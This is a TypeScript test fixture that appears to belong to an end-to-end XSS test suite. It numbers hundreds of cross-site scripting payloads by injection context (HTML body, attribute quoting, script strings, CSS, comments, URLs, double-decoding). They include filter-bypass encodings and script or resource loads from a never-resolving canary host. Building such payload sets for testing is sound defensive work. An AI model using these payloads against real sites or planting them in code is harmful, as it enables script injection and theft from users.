/*
 * Text that does something where somebody forgets that it is text. Each begins in the place where it is at home, and e2e/xss.e2e.ts
 * renders it there as a naive page would and sees it run: a payload that does nothing proves nothing.
 * `§` stands for the call of a script with the payload's number, `№` for the number, `¤` for a host with it that must never be asked for.
 */

/** Where a naive page would put it, `{}` being the text. `decoded` first undoes what some code undoes twice. */
export const places = {
  html: '<body>{}</body>',
  double: '<body><input value="{}"></body>',
  single: "<body><input value='{}'></body>",
  bare: '<body><input value={}></body>',
  textarea: '<body><textarea>{}</textarea></body>',
  title: '<title>{}</title><body></body>',
  style: '<style>a{color:{}}</style><body></body>',
  comment: '<body><!-- {} --></body>',
  noscript: '<body><iframe>{}</iframe><select><option>{}</select></body>',
  scriptDouble: '<body><script>var x = "{}"</script></body>',
  scriptSingle: "<body><script>var x = '{}'</script></body>",
  scriptTemplate: '<body><script>var x = `{}`</script></body>',
  scriptComment: '<body><script>/* {} */ // {}\n</script></body>',
  address: '',
  decoded: '',
} as const
export type Place = keyof typeof places

const handlers = (
  'click mouseover mouseenter mouseout mousedown mouseup mousemove dblclick contextmenu wheel keydown keyup ' +
  'pointerdown pointerover copy cut paste drag dragstart select input change touchstart auxclick'
).split(' ')
const tags = 'div a p b section li h1 xss button img summary label'.split(' ')

const raw: Record<Place, readonly string[]> = {
  html: [
    '<script>§</script>', '<ScRiPt>§</ScRiPt>', '<script/x>§</script >', '<script type=module>§</script>', '<<script>§//<</script>',
    '<script src="data:,§"></script>', '<script src=//¤></script>',
    '<script>onerror=alert;throw №</script>', '<script>alert`№`</script>', '<script>top["al"+"ert"](№)</script>', '<script>setTimeout("§")</script>',
    '<script>Function("§")()</script>', '<script>import("data:text/javascript,top.§")</script>',
    '<script>location="javascript:§"</script>', '<script src=x onerror=§></script>', '</script><script>§</script>',
    '<img src=x onerror=§>', '<img/src="x"/onerror=§>', '<img src="x" onerror="§">', '<img src=x onerror=§//', '<image src=x onerror=§>',
    '<img src=x onerror=&#97;lert(№)>', '<img src=x onerror=al\\u0065rt(№)>', '<IMG SRC=x OnErRoR=§>', '<img src=x:x onerror=§ x>',
    '<img srcset=x onerror=§>',
    '<svg onload=§>', '<svg/onload=§>', '<svg><script>§</script></svg>', '<svg><script href="data:,§"></script></svg>',
    '<svg><animate onbegin=§ attributeName=x dur=1s>', '<svg><set onbegin=§ attributeName=x dur=1s>',
    '<svg><animateTransform onbegin=§ attributeName=transform dur=1s>', '<svg><image href=x onerror=§>', '<svg><style onload=§></style></svg>',
    '<svg><animateMotion onbegin=§ dur=1s>',
    '<svg><a href=javascript:§><text y=20>x</text></a></svg>', '<svg><image href=//¤></svg>', '<svg><feImage href=//¤></svg>',
    '<math><mtext><script>§</script></mtext></math>', '<math><mi><img src=x onerror=§>',
    '<body onload=§>', '<body onpageshow=§>', '<style onload=§></style>', '<video src=x onerror=§></video>', '<audio src=x onerror=§></audio>',
    '<video><source onerror=§></video>', '<video onloadstart=§><source></video>', '<input type=image src=x onerror=§>',
    '<object data=//x.invalid onerror=§></object>', '<link rel=stylesheet href=x onerror=§>', '<link rel=preload as=image href=x onerror=§>',
    '<iframe onload=§></iframe>', '<iframe srcdoc="<script>parent.§</script>"></iframe>', '<iframe src=javascript:parent.§></iframe>',
    '<iframe src=//¤></iframe>', '<object data="data:text/html,<img src=http://¤>"></object>', '<object data=//¤></object>', '<embed src=//¤>',
    '<embed src="data:text/html,<img src=http://¤>">',
    '<details open ontoggle=§>', '<details ontoggle=§ open><summary>x</summary></details>', '<p onclick=§ hidden>x</p>', '<input autofocus onfocus=§>',
    '<select autofocus onfocus=§></select>', '<textarea autofocus onfocus=§></textarea>', '<button autofocus onfocus=§>x</button>',
    '<xss tabindex=1 autofocus onfocus=§>x</xss>', '<a href=# onfocusin=§>x</a>', '<input onblur=§ autofocus>', '<div contenteditable onfocus=§>x</div>',
    '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=§>x</b>', '<a href=javascript:§>x</a>', '<a href=" javascript:§">x</a>',
    '<a href="jav&#x09;ascript:§">x</a>', '<a href="&#106;avascript:§">x</a>', '<a/href=javascript&colon;§>x</a>',
    '<a href="javascript:void(0),§" target=_self>x</a>', '<map name=m><area href=javascript:§ shape=default></map>',
    '<form action=javascript:§><button>x</button></form>', '<form><button formaction=javascript:§>x</button></form>',
    '<form><input type=submit formaction=javascript:§></form>', '<form id=f></form><button form=f formaction=javascript:§>x</button>',
    '<meta http-equiv=refresh content="0;url=//¤">', '<base href=//¤><script src=x.js></script>', '<base href=//¤><img src=x>',
    '<link rel=stylesheet href=//¤>', '<link rel=preload as=script href=//¤>', '<link rel=prefetch href=//¤>', '<link rel=modulepreload href=//¤>',
    '<img src=//¤>', '<img srcset=//¤>', '<picture><source srcset=//¤><img></picture>', '<video poster=//¤></video>', '<audio src=//¤></audio>',
    '<input type=image src=//¤>', '<body background=//¤>', '<table background=//¤><tr><td>x</table>', '<style>@import"//¤"</style>',
    '<style>*{background:url(//¤)}</style>', '<b style=background:url(//¤)>x</b>', '<b style="background-image:image-set(url(//¤) 1x)">x</b>',
    '<i style="list-style:url(//¤);display:list-item">x</i>', '<hr style="border-image:url(//¤)">',
    '<p style="border-style:solid;border-image-source:url(//¤)">x</p>',
    '<xmp></xmp><img src=x onerror=§>', '<xmp><img src=x></xmp><svg onload=§>', '<!--><img src=x onerror=§>-->', '<!--x--!><img src=x onerror=§>',
    '<![CDATA[><img src=x onerror=§>]]>', '<?x ><img src=x onerror=§>', '</x "><img src=x onerror=§>', '<template></template><img src=x onerror=§>',
    '<dialog open><img src=x onerror=§></dialog>', '<table><img src=x onerror=§></table>', '<select><img src=x onerror=§></select><img src=x onerror=§>',
    '{"html":"<img src=x onerror=§>"}', '[x](y)<img src=x onerror=§>', 'x\u2028<img src=x onerror=§>', '=HYPERLINK("x")<img src=x onerror=§>',
    '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=§>x</p>',
    ...handlers.map((handler, at) => `<${tags[at % tags.length]!} on${handler}=§>x`),
  ],
  double: [
    '"><script>§</script>',
    '"><img src=x onerror=§>',
    '" onmouseover=§ x="',
    '" autofocus onfocus=§ x="',
    '" onclick="§',
    '"/onfocus="§',
    '"onclick=§//',
    '" type=image src=x onerror="§',
    '" style="background:url(//¤)',
    '"><iframe srcdoc="<script>parent.§</script>',
  ],
  single: ["'><script>§</script>", "'><img src=x onerror=§>", "' onmouseover=§ x='", "' autofocus onfocus=§ x='", "' onclick='§", "'><svg/onload=§>"],
  bare: ['x onmouseover=§', 'x onclick=§//', 'x autofocus onfocus=§', 'x type=image src=x onerror=§', 'x><img src=x onerror=§>'],
  textarea: ['</textarea><img src=x onerror=§>', '</textarea ><script>§</script>'],
  title: ['</title><script>§</script>', '</title><img src=x onerror=§>'],
  style: ['</style><script>§</script>', 'red}*{background:url(//¤)}', 'red;background:url(//¤)}body{background:url(//¤)'],
  comment: ['--><img src=x onerror=§>', '--!><script>§</script>', '><img src=x onerror=§>--><img src=x onerror=§>'],
  noscript: ['</iframe><img src=x onerror=§>', '</select><script>§</script></iframe><script>§</script>'],
  scriptDouble: ['";§;//', '"-§-"', '"+§+"', '";top[`alert`](№)//'],
  scriptSingle: ["';§;//", "'-§-'", "\\\\';§//"],
  scriptTemplate: ['${§}', '`;§;`', '`-§-`'],
  scriptComment: ['*/§/*', 'x\u2028§', 'x\u2029§'],
  address: [
    'javascript:§', 'JaVaScRiPt:§', 'java\tscript:§', 'javascript:alert(№)', 'javascript://x%0a§', 'javascript:/*x*/§', 'javascript:void(§)',
    'javascript:top.alert(№)', 'data:text/html,<img src=http://¤>', 'data:text/html;base64,B64', '//¤', 'https://¤', '/\\¤', '\\\\¤', 'http:\\\\¤',
    'javascript:alert(№)//https://console.example/', 'javascript:alert(№),1', 'javascript:alert(№)+(2)', 'javascript:(alert)(№)',
  ],
  decoded: [
    '&lt;img src=x onerror=§&gt;',
    '&#60;img src=x onerror=§&#62;',
    '%3Cimg%20src=x%20onerror=§%3E',
    '%253Cimg src=x onerror=§%253E',
    '\\u003cimg src=x onerror=§\\u003e',
    '\\x3cimg src=x onerror=§\\x3e',
    '&amp;lt;img src=x onerror=§&amp;gt;',
    '<noscript><p title="</noscript><img src=x onerror=§>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
    '\\74img src=x onerror=§\\76',
  ],
}

export interface Payload {
  number: number
  place: Place
  text: string
}

/** The host that is never to be asked for. Nothing resolves it (RFC 6761 §6.4). */
export const canary = 'canary.invalid'

/** All of them, numbered. */
export const payloads: readonly Payload[] = Object.entries(raw)
  .flatMap(([place, texts]) => texts.map((text) => ({ place: place as Place, text })))
  .map(({ place, text }, number) => ({
    number,
    place,
    text: text
      .replaceAll('§', `alert(${number})`)
      .replaceAll('¤', `${number}.${canary}`)
      .replaceAll('№', String(number))
      .replace('B64', btoa(`<img src=http://${number}.${canary}>`)),
  }))

/**
 * Every `count`th of them, another part each day: `npm test` has seconds for this, and in a fortnight has tried them all.
 * `COUNTERSIGN_XSS=3` takes the part that a failure names.
 */
export function somePayloads(share: number): { part: number; of: readonly Payload[] } {
  const asked = Number(process.env.COUNTERSIGN_XSS)
  const part = (Number.isInteger(asked) ? asked : today()) % share
  return { part, of: payloads.filter(({ number }) => number % share === part) }
}

const today = () => Math.floor(Date.now() / 86_400_000)

/** Has this process and those that it starts keep to one part, whatever day it becomes meanwhile. */
export function holdPart(): void {
  process.env.COUNTERSIGN_XSS ??= String(today())
}
